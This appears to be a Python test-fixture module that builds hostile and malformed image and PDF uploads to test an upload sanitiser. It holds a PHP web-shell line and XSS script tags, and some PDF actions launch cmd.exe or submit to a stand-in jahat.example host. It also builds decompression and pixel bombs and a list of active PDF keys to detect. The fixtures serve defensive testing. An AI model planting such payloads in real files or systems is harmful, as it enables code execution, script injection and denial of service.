"""Hostile and broken uploads, made in code. Each entry is (name, bytes)."""

import io
import random
import struct
import zlib

import pikepdf
from PIL import Image

JAHAT = b"<script>alert(1)</script><?php system($_GET['c']); ?>"
KUNCI_PDF = (
    b"/JavaScript", b"/JS", b"/AA", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"/RichMedia", b"/XFA",
    b"/SubmitForm", b"/URI", b"/AcroForm", b"/GoToR", b"/Annots", b"/Metadata", b"/Names",
)  # fmt: skip


def gambar(lebar=640, tinggi=480, jenis="JPEG", mode="RGB", **simpan):
    keluar = io.BytesIO()
    citra = Image.linear_gradient("L").resize((lebar, tinggi)).convert(mode)
    citra.save(keluar, jenis, **simpan)
    return keluar.getvalue()


def gambar_gps():
    """A phone photo lying on its side, with position, owner and a thumbnail's worth of comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x013B] = "PEMILIK-RAHASIA"
    exif.get_ifd(0x8825)[2] = (8.0, 39.0, 12.5)
    return gambar(640, 480, exif=exif, comment=b"KOMENTAR-RAHASIA", icc_profile=b"ICC-RAHASIA" * 5000)


def potongan_png(jenis, isi):
    return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))


def png(lebar, tinggi, *tambahan, idat=b""):
    kepala = potongan_png(b"IHDR", struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0))
    isi = potongan_png(b"IDAT", idat or zlib.compress(b"\0" * (3 * min(lebar * tinggi, 1000))))
    return b"\x89PNG\r\n\x1a\n" + kepala + b"".join(tambahan) + isi + potongan_png(b"IEND", b"")


def bom_itxt():
    bom = zlib.compress(b"\0" * 20_000_000, 9)
    return png(10, 10, potongan_png(b"iTXt", b"Comment\0\1\0\0\0" + bom), potongan_png(b"iCCP", b"x\0\0" + bom))


def pdf(halaman=1, ubah=None, **simpan):
    dokumen = pikepdf.new()
    for _ in range(halaman):
        dokumen.add_blank_page(page_size=(595, 842))
    if ubah:
        ubah(dokumen)
    keluar = io.BytesIO()
    dokumen.save(keluar, **simpan)
    return keluar.getvalue()


def _isi_aktif(dokumen):
    """Every active key that a reader may run, in every place where it may hang."""
    aksi = [
        "<</S /JavaScript /JS (app.alert\\(1\\))>>",
        "<</S /Launch /F (cmd.exe) /Win <</F (cmd.exe)>>>>",
        "<</S /URI /URI (http://jahat.example/)>>",
        "<</S /SubmitForm /F (http://jahat.example/)>>",
        "<</S /GoToR /F (\\\\\\\\jahat\\\\a.pdf) /D [0 /Fit]>>",
    ]
    objek = [pikepdf.Object.parse(a.encode()) for a in aksi]
    halaman, akar = dokumen.pages[0].obj, dokumen.Root
    akar.OpenAction = dokumen.make_indirect(objek[0])
    akar.AA = pikepdf.Dictionary(WC=objek[1])
    halaman.AA = pikepdf.Dictionary(O=objek[0])
    tautan = [
        dokumen.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 90, 90], A=a)
        )
        for a in objek
    ]
    media = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=[0, 0, 9, 9],
        RichMediaContent=pikepdf.Dictionary(),
    )
    halaman.Annots = pikepdf.Array([*tautan, dokumen.make_indirect(media)])
    akar.AcroForm = pikepdf.Dictionary(Fields=[], XFA=dokumen.make_stream(b"<xdp>" + JAHAT + b"</xdp>"))
    akar.Metadata = dokumen.make_stream(b"METADATA-RAHASIA")
    halaman.PieceInfo = pikepdf.Dictionary(X=pikepdf.Dictionary(Private=dokumen.make_stream(b"PRIBADI-RAHASIA")))
    # Under a resource the page needs, and under the name of a font: reachable without catalogue or annotation.
    lagi = pikepdf.Dictionary(A=objek[1], OpenAction=objek[0], Dalam=[pikepdf.Dictionary(JS=pikepdf.String("x"))])
    halaman.Resources = pikepdf.Dictionary(Properties=pikepdf.Dictionary(MC0=dokumen.make_indirect(lagi)))
    dokumen.attachments["jahat.exe"] = JAHAT


def pdf_aktif():
    return pdf(2, _isi_aktif)


def pdf_foto_gps():
    def ubah(dokumen):
        foto = pikepdf.Stream(dokumen, gambar_gps())
        foto.Type, foto.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        foto.Width, foto.Height, foto.BitsPerComponent = 640, 480, 8
        foto.ColorSpace, foto.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
        dokumen.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(A=foto))
        dokumen.pages[0].obj.Contents = dokumen.make_stream(b"q 595 0 0 842 0 0 cm /A Do Q")

    return pdf(1, ubah)


def pdf_formulir(*, tergambar, serahkan=False):
    """A filled form; `tergambar`: with its own drawing; `serahkan`: it asks the reader to draw anew."""

    def ubah(dokumen):
        induk = pikepdf.Object.parse(b"<</FT /Tx /T (a) /V (ISIAN-PEMOHON) /DA (/F1 12 Tf 0 g)>>")
        induk = dokumen.make_indirect(induk)
        kolom = pikepdf.Object.parse(b"<</Type /Annot /Subtype /Widget /F 4 /Rect [50 700 400 730]>>")
        kolom.Parent = induk
        if tergambar:
            rupa = dokumen.make_stream(b"BT /F1 12 Tf 2 10 Td (ISIAN-PEMOHON) Tj ET")
            rupa.Type, rupa.Subtype, rupa.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 350, 30]
            huruf = b"<</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>"
            rupa.Resources = pikepdf.Object.parse(huruf)
            kolom.AP = pikepdf.Dictionary(N=rupa)
        kolom = dokumen.make_indirect(kolom)
        induk.Kids = pikepdf.Array([kolom])
        dokumen.pages[0].obj.Annots = pikepdf.Array([kolom])
        dokumen.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([induk]), NeedAppearances=serahkan)

    return pdf(1, ubah)


def pdf_bom():
    """A page whose content swells from some kilobytes to 60 MB in the reader."""

    def ubah(dokumen):
        padat = zlib.compressobj(9)
        isi = b"".join([*(padat.compress(b" " * 1_000_000) for _ in range(60)), padat.flush()])
        aliran = pikepdf.Stream(dokumen, isi)
        aliran.Filter = pikepdf.Name.FlateDecode
        dokumen.pages[0].obj.Contents = dokumen.make_indirect(aliran)

    return pdf(1, ubah, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_gambar_raksasa():
    def ubah(dokumen):
        foto = dokumen.make_stream(b"\0" * 100)
        foto.Subtype, foto.Width, foto.Height = pikepdf.Name.Image, 50_000, 50_000
        dokumen.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=foto))

    return pdf(1, ubah)


def pdf_pohon_melingkar():
    """The page tree's child is the tree itself."""
    return pdf().replace(b"/Kids [ 3 0 R ]", b"/Kids [ 2 0 R ]")


def ditolak():
    """name -> (file name, content or what makes it, a word that the sentence must hold)."""
    acak = random.Random(7)
    baik, dokumen = gambar(), pdf(3)
    sandi = pikepdf.Encryption(owner="p", user="b")
    batas = pikepdf.Encryption(owner="p", user="")
    kasus = {
        "kosong": ("ktp.jpg", b"", "kosong"),
        "gif": ("ktp.gif", gambar(jenis="GIF"), "tidak diterima"),
        "gif-sebagai-jpg": ("ktp.jpg", gambar(jenis="GIF"), "bukan JPEG"),
        "svg": ("ktp.svg", b"<svg onload='alert(1)'/>", "tidak diterima"),
        "svg-sebagai-png": ("ktp.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "bukan PNG"),
        "html-sebagai-pdf": ("ktp.pdf", b"<html>" + JAHAT, "bukan PDF"),
        "png-sebagai-jpg": ("ktp.jpg", gambar(jenis="PNG"), "bukan JPEG"),
        "webp": ("ktp.jpg", gambar(jenis="WEBP"), "bukan JPEG"),
        "tiff": ("ktp.tif", gambar(jenis="TIFF"), "tidak diterima"),
        "tanpa-akhiran": ("ktp", baik, "tidak diterima"),
        "php": ("ktp.jpg.php", baik, "tidak diterima"),
        "besar": ("ktp.jpg", baik + b"\0" * 10 * 1024 * 1024, "10 MB"),
        "kepala-saja": ("ktp.jpg", b"\xff\xd8\xff\xe0", "rusak"),
        "html-berkepala-jpeg": ("ktp.jpg", b"\xff\xd8\xff\xe0" + JAHAT * 50, "rusak"),
        "bom-piksel": ("ktp.png", png(50_000, 50_000), "megapiksel"),
        "bom-piksel-tipis": ("ktp.png", png(1, 2_000_000_000), "megapiksel"),
        "png-tanpa-isi": ("ktp.png", png(800, 600, idat=b"x"), "rusak"),
        "png-bom-teks": ("ktp.png", bom_itxt, "rusak"),
        "png-terpotong": ("ktp.png", gambar(jenis="PNG")[:300], "rusak"),
        "pdf-terpotong": ("kk.pdf", dokumen[: len(dokumen) // 2], "rusak"),
        "pdf-kepala-saja": ("kk.pdf", b"%PDF-1.7\n", "rusak"),
        "pdf-sampah": ("kk.pdf", b"%PDF-1.7\n" + acak.randbytes(5000), "rusak"),
        "pdf-bersandi": ("kk.pdf", pdf(encryption=sandi), "tanpa sandi"),
        "pdf-terbatas": ("kk.pdf", pdf(encryption=batas), "tanpa sandi"),
        "pdf-21-halaman": ("kk.pdf", pdf(21), "20 halaman"),
        "pdf-tanpa-halaman": ("kk.pdf", pdf(0), "tidak berisi halaman"),
        "pdf-bom": ("kk.pdf", pdf_bom, "terlalu berat"),
        "pdf-gambar-raksasa": ("kk.pdf", pdf_gambar_raksasa(), "megapiksel"),
        "pdf-formulir-tak-tergambar": ("kk.pdf", pdf_formulir(tergambar=False), "formulir"),
        "pdf-formulir-diserahkan": ("kk.pdf", pdf_formulir(tergambar=True, serahkan=True), "formulir"),
        "pdf-melingkar": ("kk.pdf", pdf_pohon_melingkar(), "rusak"),
    }
    for bagian in (50, 300, 1000, len(baik) - 200):
        kasus[f"jpeg-terpotong-{bagian}"] = ("ktp.jpg", baik[:bagian], "rusak")
    return kasus


def diterima():
    """name -> (file name, content): must come out clean."""
    return {
        "jpeg": ("ktp.jpg", gambar()),
        "jpeg-html": ("ktp.jpg", gambar(comment=JAHAT) + JAHAT * 20),
        "jpeg-zip": ("ktp.jpeg", gambar() + b"PK\x03\x04" + JAHAT),
        "jpeg-pdf": ("ktp.jpg", gambar() + pdf_aktif()),
        "jpeg-gps": ("ktp.jpg", gambar_gps()),
        "jpeg-cmyk": ("ktp.jpg", gambar(mode="CMYK")),
        "jpeg-abu": ("ktp.JPG", gambar(mode="L")),
        "jpeg-bertingkat": ("ktp.jpg", gambar(progressive=True)),
        "png-bening": ("ktp.png", gambar(jenis="PNG", mode="RGBA")),
        "png-palet": ("ktp.png", gambar(jenis="PNG", mode="P", transparency=0)),
        "png-hitam-putih": ("ktp.png", gambar(jenis="PNG", mode="1")),
        "png-16-bit": ("ktp.png", gambar(jenis="PNG", mode="I;16")),
        "png-skrip": ("ktp.png", gambar(jenis="PNG") + JAHAT),
        "pdf": ("kk.pdf", pdf(20)),
        "pdf-aktif": ("kk.pdf", pdf_aktif()),
        "pdf-aktif-aliran": ("kk.pdf", pdf(1, _isi_aktif, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "pdf-formulir": ("kk.pdf", pdf_formulir(tergambar=True)),
        "pdf-zip": ("kk.pdf", pdf() + b"PK\x03\x04" + JAHAT),
        "pdf-foto-gps": ("kk.pdf", pdf_foto_gps()),
    }
